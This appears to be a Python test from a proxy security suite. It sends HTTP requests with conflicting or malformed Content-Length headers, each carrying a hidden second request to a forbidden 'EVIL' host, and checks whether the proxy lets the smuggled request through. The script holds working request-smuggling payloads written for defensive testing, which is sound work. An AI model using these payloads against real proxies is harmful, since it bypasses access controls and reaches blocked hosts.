"""Gives a body two lengths, or one that readers read differently, with a second request hidden in it."""
# outside: escapes

from attempt import attempt
from proxied import EVIL, FORBIDDEN, GOOD, exchange, reached, status

HIDDEN = f"GET http://{EVIL}/{FORBIDDEN} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()


@attempt
def main():
    size, found = str(len(HIDDEN)).encode(), []
    for fields in (
        (b"Content-Length: 0", b"Content-Length: " + size),
        (b"Content-Length: " + size, b"Content-Length: 0"),
        (b"Content-Length: 0, " + size,),
        (b"Content-Length: +" + size,),
        (b"Content-Length: -1",),
        (b"Content-Length: 0x" + size,),
        (b"Content-Length : " + size,),
        (b"Content-Length: " + size + b" 0",),
        (b"Content-Length: 9" * 1 + b"9" * 40,),
        (b"Content-Length:",),
        (b"Content-Length: 1_0",),
        (b"Content\x00-Length: 0",),
    ):
        raw = exchange(
            f"POST http://{GOOD}/two-lengths HTTP/1.1\r\nHost: {GOOD}\r\n".encode()
            + b"".join(field + b"\r\n" for field in fields)
            + b"\r\n"
            + HIDDEN,
            answers=1,
        )
        found += [f"{fields}: {who}" for who in reached(raw, GOOD)] + (
            [f"{fields}: {status(raw)}"] if status(raw) in range(200, 300) else []
        )
    return found
